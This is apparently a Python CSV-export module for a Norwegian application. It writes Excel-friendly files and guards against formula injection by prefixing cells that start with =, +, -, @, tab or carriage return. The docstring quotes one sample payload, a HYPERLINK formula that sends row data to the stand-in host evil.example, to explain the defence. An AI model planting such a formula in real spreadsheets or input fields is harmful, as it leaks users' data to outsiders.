"""Any list as a CSV file that Norwegian Excel opens correctly with a double click: the
one CSV writer of the program (the list export, ``deadlines --csv``, ``export --csv`` and
File → Export everything as CSV all write through ``write_csv``).

Excel with Norwegian regional settings expects ``;`` as the list separator (``,`` is
the decimal comma) and only recognises UTF-8 when the file starts with a byte-order
mark; without it æ, ø and å come out garbled. So: UTF-8 with BOM, ``;``, CRLF lines.

Formula injection (issue 12 item 10): a text cell beginning with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is a formula to Excel and LibreOffice (a customer
named ``=HYPERLINK("http://evil.example/?d="&A2,"Klikk")`` became a live link that sends
the row away). As OWASP recommends, such a cell gets a leading apostrophe, which the
spreadsheet shows as text and does not display; the csv module quotes what needs it.
Only text is neutralised: numbers and dates the program formats itself (a negative
amount "-500,00" stays a number).
"""

from __future__ import annotations

import csv
import os
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from enum import Enum
from typing import Any

from app.domain.explain import Lang, format_date, format_decimal, format_value

from .targets import written

#: Norwegian Excel's list separator (the comma is its decimal separator).
SEPARATOR = ";"
#: "utf-8-sig" writes the byte-order mark Excel needs to read the file as UTF-8.
ENCODING = "utf-8-sig"


#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """Text a spreadsheet would run as a formula, made plain text (a leading ``'``)."""
    return "'" + text if text.startswith(FORMULA_START) else text


def money(value: Any) -> Decimal | None:
    """An amount for a CSV cell: always two decimals (12 500,5 is written 12500,50)."""
    if value is None or value == "":
        return None
    return Decimal(str(value)).quantize(Decimal("0.01"))


def cell(value: Any, lang: Lang = "nb") -> str:
    """One value as text: dates dd.mm.yyyy, decimals with the language's decimal mark,
    text neutralised (``neutralise``)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return format_value(value, "", lang)  # ja/nei, yes/no: the catalog's
    if isinstance(value, Enum):
        return neutralise(str(value.value))
    if isinstance(value, datetime):
        return format_date(value.date(), lang) + value.strftime(" %H:%M")
    if isinstance(value, date):
        return format_date(value, lang)
    if isinstance(value, Decimal):
        places = max(0, -value.as_tuple().exponent) if value.is_finite() else 0
        return format_decimal(value, places, lang, grouping=False)
    if isinstance(value, int):
        return str(value)
    return neutralise(str(value))


def write_csv(
    rows: Iterable[Sequence[Any]],
    header: Sequence[str],
    path: str | os.PathLike[str],
    *,
    lang: Lang = "nb",
) -> int:
    """Write ``header`` and ``rows`` to ``path``; returns the number of data rows.

    Written to a temporary name first, so a failed export never leaves half a file.
    """
    count = 0
    with written(path) as partial, partial.open("w", encoding=ENCODING, newline="") as handle:
        writer = csv.writer(handle, delimiter=SEPARATOR, lineterminator="\r\n")
        writer.writerow(header)
        for row in rows:
            if len(row) != len(header):
                raise ValueError(f"row {count + 1} has {len(row)} cells, the header {len(header)}")
            writer.writerow([cell(value, lang) for value in row])
            count += 1
    return count
